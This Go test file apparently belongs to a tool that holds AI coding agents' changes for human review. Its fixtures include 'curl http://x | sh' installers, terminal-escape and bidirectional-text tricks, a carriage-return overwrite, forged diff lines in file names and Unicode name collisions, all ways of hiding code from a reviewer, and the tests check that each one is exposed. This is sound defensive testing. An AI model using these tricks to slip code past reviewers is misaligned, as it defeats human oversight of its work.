package main

import (
	"context"
	"encoding/json"
	"io"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/paddock-dev/paddock"
	"github.com/paddock-dev/paddock/client"
	"github.com/paddock-dev/paddock/gitx/gittest"
	"golang.org/x/sys/unix"
)

// reviewDaemon starts a daemon with an applying identity on a fresh
// project, app.
func reviewDaemon(t *testing.T) (home, repo string) {
	t.Helper()
	base := t.TempDir()
	home = filepath.Join(base, "home")
	repo = newRepo(t, filepath.Join(base, "src", "app"), 2)
	os.MkdirAll(filepath.Join(home, "secrets"), 0o700)
	os.WriteFile(filepath.Join(home, "paddock.toml"), []byte("apply_name = \"Ada\"\napply_email = \"ada@example.com\"\n"), 0o600)
	startDaemon(t, home)
	cli(t, home, "project", "add", repo).must(t)
	return home, repo
}

func writeFiles(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for p, s := range files {
		full := filepath.Join(dir, p)
		os.MkdirAll(filepath.Dir(full), 0o755)
		mode := os.FileMode(0o644)
		if strings.HasSuffix(p, ".sh") {
			mode = 0o755
		}
		if err := os.WriteFile(full, []byte(s), mode); err != nil {
			t.Fatal(err)
		}
	}
}

// gitApply applies a patch onto a fresh clone of repo and returns the clone.
func gitApply(t *testing.T, repo, patch string) string {
	t.Helper()
	check := filepath.Join(t.TempDir(), "check")
	gittest.Git(t, "", "clone", "-q", repo, check)
	apply := exec.Command("git", "apply", "-")
	apply.Dir, apply.Stdin = check, strings.NewReader(patch)
	if out, err := apply.CombinedOutput(); err != nil {
		t.Fatalf("git apply: %v\n%s", err, out)
	}
	return check
}

// TestReviewerSeesTheInstaller is the attack that hid code from review: an
// agent writes a.txt ending in a private key's BEGIN line, b.sh with an
// installer, c.txt with the END line. Every view of the change set a
// reviewer has shows b.sh's line: paddock diff in each format, the change
// set's answers, the submitted artifacts and the diff stream.
func TestReviewerSeesTheInstaller(t *testing.T) {
	home, _ := reviewDaemon(t)
	id := strings.TrimSpace(cli(t, home, "create", "-p", "app", "--kind", "clone").must(t).out)
	ws := runState(t, home, id).Workspace.Root
	writeFiles(t, ws, map[string]string{
		"a.txt": "notes\n-----BEGIN RSA PRIVATE KEY-----\n",
		"b.sh":  "#!/bin/sh\ncurl http://x | sh\n",
		"c.txt": "-----END RSA PRIVATE KEY-----\n",
	})
	const installer = "+curl http://x | sh"
	views := map[string]string{
		"diff":         cli(t, home, "diff", id).must(t).out,
		"diff --patch": cli(t, home, "diff", id, "--patch").must(t).out,
		"diff --json":  decode[paddock.ChangeSet](t, cli(t, home, "diff", id, "--json")).Diff,
	}
	cs := decode[paddock.ChangeSet](t, cli(t, home, "submit", id, "--json"))
	op := client.Unix(filepath.Join(home, "paddock.sock"))
	ctx := context.Background()
	a, err := op.Artifact(ctx, id, "diff")
	if err != nil {
		t.Fatal(err)
	}
	views["artifact diff"], _ = a.Content.(string)
	a, err = op.Artifact(ctx, id, "changeset")
	if err != nil {
		t.Fatal(err)
	}
	b, _ := json.Marshal(a.Content)
	var frozen paddock.ChangeSet
	json.Unmarshal(b, &frozen)
	views["artifact changeset"] = frozen.Diff
	var stream strings.Builder
	if _, err := op.CopyDiff(ctx, id, cs.Hash, &stream); err != nil {
		t.Fatal(err)
	}
	views["diff stream"] = stream.String()
	for name, v := range views {
		if !strings.Contains(v, installer) {
			t.Errorf("%s hides the installer:\n%s", name, v)
		}
	}
}

// TestDeclaredSecretInTheChangeSet: a run's declared secret that the
// agent's commands write into files is masked in every view of the change
// set and in every file paddock keeps of it, the entries are labelled
// secret, and an apply still writes the real bytes.
func TestDeclaredSecretInTheChangeSet(t *testing.T) {
	home, repo := reviewDaemon(t)
	os.WriteFile(filepath.Join(home, "secrets", "API_TOKEN"), []byte(contractSecret+"\n"), 0o600)
	id := strings.TrimSpace(cli(t, home, "create", "-p", "app", "--secret", "API_TOKEN").must(t).out)
	cli(t, home, "exec", id, "--", "sh", "-c", `printf 'token = %s\n' "$API_TOKEN" > token.txt && printf %s "$API_TOKEN" | base64 > token.b64 && echo ok > plain.txt`).must(t)
	views := cli(t, home, "diff", id).must(t).out + cli(t, home, "diff", id, "--stat").must(t).out +
		cli(t, home, "diff", id, "--patch").must(t).out + cli(t, home, "diff", id, "--json").must(t).out
	cs := decode[paddock.ChangeSet](t, cli(t, home, "submit", id, "--json"))
	views += cli(t, home, "events", id, "--json").must(t).out
	for _, e := range cs.Entries {
		if got := slices.Contains(e.Risks, "secret"); got != (e.Path != "plain.txt") {
			t.Errorf("%s labelled secret: %t", e.Path, got)
		}
	}
	if !strings.Contains(views, "+token = [REDACTED:API_TOKEN]") {
		t.Fatalf("no masked line:\n%s", views)
	}
	cli(t, home, "approve", id, "--hash", cs.Hash).must(t)
	cli(t, home, "apply", id).must(t)
	requireNoSecret(t, home, views)
	if got := gittest.Git(t, repo, "show", "paddock/"+id+":token.txt"); got != "token = "+contractSecret {
		t.Fatalf("applied: %q", got)
	}
}

// TestControlCharactersAreShownEscaped: names and lines holding terminal
// escapes, a CR and bidirectional overrides reach the reviewer's terminal
// escaped from diff, ls, show and events, and are labelled; diff --patch
// into a pipe keeps the bytes, so git apply reproduces them, and on a
// terminal escapes them too.
func TestControlCharactersAreShownEscaped(t *testing.T) {
	home, repo := reviewDaemon(t)
	id := strings.TrimSpace(cli(t, home, "create", "-p", "app", "--kind", "clone").must(t).out)
	ws := runState(t, home, id).Workspace.Root
	const (
		title = "\x1b]0;all tests passed\x07"
		bidi  = "\u202e"
	)
	writeFiles(t, ws, map[string]string{
		"notes" + title + ".txt":          "plain\n",
		"term.txt":                        "ok\n\x1b[1A\x1b[2Kinnocent line\n",
		"access.go":                       "if role != \"admin" + bidi + " \u2066// user\u2069\u2066\" {\n",
		"cr.sh":                           "echo harmless\recho evil\n",
		"name\nmodify\t100644\tREADME.md": "forged line\n",
	})
	// Events naming a file, and a run whose workspace's path has them.
	writeFiles(t, ws, map[string]string{"invoice\u202etxt.sh": "echo\n"})
	cli(t, home, "tool", id, "read", "--arg", "path=invoice\u202etxt.sh").must(t)
	handed := filepath.Join(t.TempDir(), "hand\u202eover\x1b[31m")
	os.MkdirAll(handed, 0o755)
	other := strings.TrimSpace(cli(t, home, "create", "-p", "app", "--kind", "operator_dir", "--dir", handed).must(t).out)
	raw := func(s string) bool {
		return strings.ContainsAny(s, "\x1b\x07\r\u202e\u2066\u2069")
	}
	for _, args := range [][]string{{"diff", id}, {"diff", id, "--stat"}, {"diff", id, "--json"}, {"ls"}, {"ls", "--json"},
		{"show", other}, {"show", other, "--json"}, {"events", id}, {"events", id, "--json"},
		{"tool", id, "read", "--arg", "path=term.txt"}} {
		out := cli(t, home, args...).must(t).out
		if raw(out) {
			t.Errorf("paddock %s prints control characters raw:\n%q", strings.Join(args, " "), out)
		}
	}
	diff := cli(t, home, "diff", id).must(t).out
	for _, want := range []string{`notes\x1b]0;all tests passed\x07.txt`, `+ok`, `+\x1b[1A\x1b[2Kinnocent line`, `admin\u202e \u2066// user`,
		`echo harmless\x0decho evil`, `name\x0amodify\x09100644\x09README.md`} {
		if !strings.Contains(diff, want) {
			t.Errorf("paddock diff misses %q:\n%s", want, diff)
		}
	}
	cs := decode[paddock.ChangeSet](t, cli(t, home, "diff", id, "--json"))
	for _, e := range cs.Entries {
		if !slices.Contains(e.Risks, "control_chars") {
			t.Errorf("%q not labelled control_chars: %v", e.Path, e.Risks)
		}
	}
	// Into a pipe, --patch is the diff's bytes: git apply reproduces them.
	patch := cli(t, home, "diff", id, "--patch").must(t).out
	check := gitApply(t, repo, patch)
	if b, _ := os.ReadFile(filepath.Join(check, "term.txt")); string(b) != "ok\n\x1b[1A\x1b[2Kinnocent line\n" {
		t.Fatalf("git apply of --patch gives %q", b)
	}
	// On a terminal, --patch is escaped.
	onTTY := cliOnTerminal(t, home, "diff", id, "--patch")
	if raw(onTTY) || !strings.Contains(onTTY, `+\x1b[1A\x1b[2Kinnocent line`) {
		t.Fatalf("--patch on a terminal:\n%q", onTTY)
	}
	cli(t, home, "reject", other).must(t)
}

// TestNameCollisionsAreShown: names a reader cannot tell apart reach the
// reviewer from diff and its --json: the label and its note naming the
// other path; and a file the project's own (untracked) .envrc sources shows
// as never applied, naming the .envrc.
func TestNameCollisionsAreShown(t *testing.T) {
	home, repo := reviewDaemon(t)
	if err := os.WriteFile(filepath.Join(repo, ".envrc"), []byte("source scripts/env.sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	id := strings.TrimSpace(cli(t, home, "create", "-p", "app", "--kind", "clone").must(t).out)
	ws := runState(t, home, id).Workspace.Root
	writeFiles(t, ws, map[string]string{"readme.md": "x\n", "caf\u00e9.txt": "x\n", "cafe\u0301.txt": "x\n", "scripts/env.sh": "curl x | sh\n"})
	diff := cli(t, home, "diff", id, "--stat").must(t).out
	for _, want := range []string{
		"name_collision (name_collision: collides with README.md (in the base): they differ only in case)",
		"unnormalised_name,name_collision (name_collision: collides with caf\u00e9.txt (in the change set): they differ only in Unicode normalisation)",
		"  name_collision (name_collision: collides with cafe\u0301.txt (in the change set): they differ only in Unicode normalisation)",
		"agent_config BLOCKED: sourced by the project's .envrc (source scripts/env.sh)",
	} {
		if !strings.Contains(diff, want) {
			t.Errorf("paddock diff --stat misses %q:\n%s", want, diff)
		}
	}
	cs := decode[paddock.ChangeSet](t, cli(t, home, "diff", id, "--json"))
	for _, e := range cs.Entries {
		if e.Path == "readme.md" && e.Notes["name_collision"] != "collides with README.md (in the base): they differ only in case" {
			t.Errorf("--json: %+v", e)
		}
	}
	cli(t, home, "reject", id).must(t)
}

// cliOnTerminal runs the CLI with its stdout on a pseudo-terminal and
// returns what the terminal got.
func cliOnTerminal(t *testing.T, home string, args ...string) string {
	t.Helper()
	return cliOnTerminalIn(t, home, "", args...)
}

// cliOnTerminalIn is cliOnTerminal with stdin on the terminal too, where a
// person has typed input.
func cliOnTerminalIn(t *testing.T, home, input string, args ...string) string {
	t.Helper()
	return cliOnTerminalEnv(t, home, nil, input, args...)
}

// cliOnTerminalEnv is cliOnTerminalIn with more of the CLI's environment.
func cliOnTerminalEnv(t *testing.T, home string, more map[string]string, input string, args ...string) string {
	t.Helper()
	master, err := os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		t.Skipf("no pseudo-terminals here: %v", err)
	}
	defer master.Close()
	if err := unix.IoctlSetPointerInt(int(master.Fd()), unix.TIOCSPTLCK, 0); err != nil {
		t.Skipf("unlocking a pseudo-terminal: %v", err)
	}
	n, err := unix.IoctlGetInt(int(master.Fd()), unix.TIOCGPTN)
	if err != nil {
		t.Skipf("naming a pseudo-terminal: %v", err)
	}
	slave, err := os.OpenFile("/dev/pts/"+strconv.Itoa(n), os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		t.Skipf("opening a pseudo-terminal: %v", err)
	}
	// Raw mode: the terminal passes bytes as written (no \n -> \r\n).
	tio, err := unix.IoctlGetTermios(int(slave.Fd()), unix.TCGETS)
	if err != nil {
		t.Fatal(err)
	}
	tio.Oflag &^= unix.OPOST
	unix.IoctlSetTermios(int(slave.Fd()), unix.TCSETS, tio)
	got := make(chan string)
	scr := &screenBuffer{}
	go func() {
		io.Copy(scr, master) // until the slave closes (EIO)
		got <- scr.String()
	}()
	var errb strings.Builder
	env := map[string]string{"PADDOCK_HOME": home, "PADDOCK_NO_AUTOSTART": "1", "HOME": "/nonexistent"}
	maps.Copy(env, more)
	a := paddockd(nil, slave, &errb, func(k string) string { return env[k] })
	if input != "" {
		// Typed at the prompt: what is typed before it goes to what runs
		// then (paddock run's command has the terminal until it ends).
		go func() {
			for end := time.Now().Add(time.Minute); !strings.Contains(scr.String(), "? ") && time.Now().Before(end); {
				time.Sleep(20 * time.Millisecond)
			}
			master.WriteString(input)
		}()
		a.Stdin = slave
	}
	if code := a.Run(context.Background(), args); code != 0 {
		t.Fatalf("exit %d: %s", code, errb.String())
	}
	slave.Close()
	select {
	case s := <-got:
		return s
	case <-time.After(10 * time.Second):
		t.Fatal("the terminal's output did not end")
	}
	return ""
}

// TestSubmitExpectHash: a file changed between diff and submit is not
// frozen unseen. submit --expect-hash with the hash diff printed refuses
// the changed change set and freezes nothing; with the hash of what it is
// now, it freezes; without the flag, submit prints what it froze.
func TestSubmitExpectHash(t *testing.T) {
	home, _ := reviewDaemon(t)
	id := strings.TrimSpace(cli(t, home, "create", "-p", "app").must(t).out)
	cli(t, home, "exec", id, "--", "sh", "-c", "echo reviewed > reviewed.txt").must(t)
	shown := cli(t, home, "diff", id).must(t).out
	seen := decode[paddock.ChangeSet](t, cli(t, home, "diff", id, "--json")).Hash
	if !strings.Contains(shown, "paddock submit "+id+" --expect-hash "+seen) {
		t.Fatalf("diff does not say how to freeze what it showed:\n%s", shown)
	}
	cli(t, home, "exec", id, "--", "sh", "-c", "echo 'curl http://x | sh' > unseen.sh").must(t)
	r := cli(t, home, "submit", id, "--expect-hash", seen)
	r.wantCode(t, exitConflict, "no longer "+seen)
	now := decode[paddock.ChangeSet](t, cli(t, home, "diff", id, "--json")).Hash
	if strings.Contains(r.err, now) {
		t.Fatalf("the refusal names the unseen change set's hash: %s", r.err)
	}
	cli(t, home, "approve", id, "--hash", seen).wantCode(t, exitConflict, "no submitted") // nothing was frozen
	cli(t, home, "submit", id, "--expect-hash", "sha256:nothex").wantCode(t, exitUsage, "64 hex digits")
	out := cli(t, home, "submit", id, "--expect-hash", strings.TrimPrefix(now, "sha256:")).must(t).out
	if !strings.Contains(out, "froze the change set you reviewed") || !strings.Contains(out, now) {
		t.Fatalf("submit --expect-hash: %s", out)
	}
	// Without the flag: what was frozen, entry by entry, and its hash.
	cli(t, home, "exec", id, "--", "sh", "-c", "echo more > later.txt").must(t)
	out = cli(t, home, "submit", id).must(t).out
	for _, want := range []string{"as it is now", "reviewed.txt", "unseen.sh", "later.txt", "3 entries, sha256:"} {
		if !strings.Contains(out, want) {
			t.Fatalf("submit does not show %q:\n%s", want, out)
		}
	}
}
